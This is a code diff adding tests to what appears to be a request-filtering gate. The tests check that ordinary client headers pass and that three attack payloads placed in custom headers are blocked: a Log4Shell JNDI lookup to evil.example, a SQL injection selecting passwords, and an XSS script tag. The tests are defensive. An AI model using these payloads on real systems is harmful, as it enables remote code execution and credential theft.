@@ -116,6 +116,50 @@ def test_policy_named_headers_are_inspected(tmp_path: Path) -> None:
     assert ex.findings[0].location == "header:origin"
 
 
+# Headers of ordinary API clients and browsers: inspected, never blocked.
+CLIENT_HEADERS = [
+    ("Origin", "http://localhost:3000"),
+    ("Idempotency-Key", "3f6c2b1e-8d4a-4c8e-9b1f-2a7d5e6c9f10"),
+    (
+        "Stripe-Signature",
+        "t=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff",
+    ),
+    ("Forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
+    ("Via", "1.1 proxy.example (squid/3.5.27)"),
+    ("Prefer", "return=representation; wait=10"),
+    ("Digest", "sha-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE="),
+    ("Signature-Input", 'sig1=("@method" "@path");created=1618884473;keyid="k1"'),
+    ("Baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
+    ("Link", '<https://api.example/items?page=2>; rel="next"'),
+    ("Api-Version", "2024-06-20"),
+    ("Device-Id", "iPhone14,2; iOS 17.4.1"),
+    ("Accept-Version", "~1.2"),
+    ("Content-Disposition", 'attachment; filename="statement 2024-03.pdf"'),
+    ("Tenant", "O'Reilly Media"),
+]
+
+
+@pytest.mark.parametrize("header", CLIENT_HEADERS)
+def test_ordinary_client_headers_pass(tmp_path: Path, header: tuple[str, str]) -> None:
+    assert outcome(Gate(tmp_path).send("/x", headers=[header])) == ("allow", ())
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        ("Test", "${jndi:ldap://evil.example/a}"),
+        ("Remote-IP", "1' union select password from users--"),
+        ("FooBarHeader", "<script>alert(1)</script>"),
+    ],
+)
+def test_payloads_in_custom_headers_are_blocked(
+    tmp_path: Path, header: tuple[str, str]
+) -> None:
+    ex = Gate(tmp_path).send("/x", headers=[header])
+    assert outcome(ex)[0] == "block"
+    assert ex.findings[0].location == "header:" + header[0].lower()
+
+
 def test_route_limits_mark_inspection_incomplete(tmp_path: Path) -> None:
     gate = Gate(tmp_path)
     ex = gate.send("/strict", {"a": {"b": {"c": "deep"}}})
